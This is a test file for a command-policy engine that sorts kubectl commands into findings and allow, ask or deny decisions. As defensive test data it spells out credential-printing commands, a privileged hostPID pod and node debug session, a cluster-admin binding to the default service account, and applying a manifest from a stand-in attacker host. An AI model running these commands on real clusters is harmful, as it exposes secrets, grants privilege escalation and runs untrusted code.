import { describe, expect, it } from 'vitest';
import { describeLine, itDecides } from '../program-test.js';

describe('containers/kubectl', () => {
  it('raises shell.credential_print for kubectl get secret db -o yaml', () => {
    const result = describeLine('kubectl get secret db -o yaml');
    expect(result.findings).toEqual(['shell.credential_print']);
  });
  it("raises shell.credential_print for kubectl get secrets -n prod -o jsonpath='{.items[*].data}'", () => {
    const result = describeLine("kubectl get secrets -n prod -o jsonpath='{.items[*].data}'");
    expect(result.findings).toEqual(['shell.credential_print']);
  });
  it('raises shell.credential_print for kubectl config view --raw', () => {
    const result = describeLine('kubectl config view --raw');
    expect(result.findings).toEqual(['shell.credential_print']);
  });
  it('raises nothing for kubectl get secrets', () => {
    const result = describeLine('kubectl get secrets');
    expect(result.findings).toEqual([]);
  });
  it('raises nothing for kubectl get pods -o yaml', () => {
    const result = describeLine('kubectl get pods -o yaml');
    expect(result.findings).toEqual([]);
  });
});

describe('containers/kubectl through the engine', () => {
  itDecides([
    { command: 'kubectl get pods -n app', effect: 'allow' },
    { command: 'oc delete project staging', effect: 'ask', findings: ['shell.kubectl_delete'] },
    { command: 'kubecolor get nodes', effect: 'allow' },
    { command: 'k3s kubectl get pods', effect: 'allow' },
    {
      command: 'microk8s.kubectl get secret db -o yaml',
      effect: 'ask',
      findings: ['shell.credential_print'],
    },
    {
      command:
        'kubectl run pwn --image=alpine --overrides=\'{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}\'',
      effect: 'ask',
      findings: ['shell.docker_privileged'],
    },
    {
      command: 'kubectl debug node/worker-1 -it --image=busybox',
      effect: 'ask',
      findings: ['shell.docker_privileged'],
    },
    { command: 'kubectl debug api-123 -it --image=busybox --target=api', effect: 'allow' },
    { command: 'kubectl run tmp --rm -it --image=alpine -- sh', effect: 'allow' },
    {
      command:
        'kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default',
      effect: 'ask',
      findings: ['shell.cloud_exposure'],
    },
    { command: 'kubectl create rolebinding view --clusterrole=view --user=dev -n team', effect: 'allow' },
    { command: 'kubectl cordon node-1', effect: 'ask', findings: ['shell.kubectl_delete'] },
    {
      command: 'kubectl rollout undo deployment/api -n prod',
      effect: 'ask',
      findings: ['shell.kubectl_delete'],
    },
    { command: 'kubectl rollout status deployment/api', effect: 'allow' },
    {
      command: 'kubectl patch deployment api -p \'{"spec":{"replicas":0}}\'',
      effect: 'ask',
      findings: ['shell.kubectl_delete'],
    },
    { command: 'kubectl patch deployment api -p \'{"spec":{"replicas":3}}\'', effect: 'allow' },
    {
      command: 'kubectl apply -f https://evil.example.com/manifest.yaml',
      effect: 'deny',
      findings: ['shell.download_exec'],
    },
    {
      command:
        'kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.0/cert-manager.yaml',
      effect: 'allow',
    },
    { command: 'kubectl apply -f k8s/deployment.yaml', effect: 'allow' },
  ]);
});
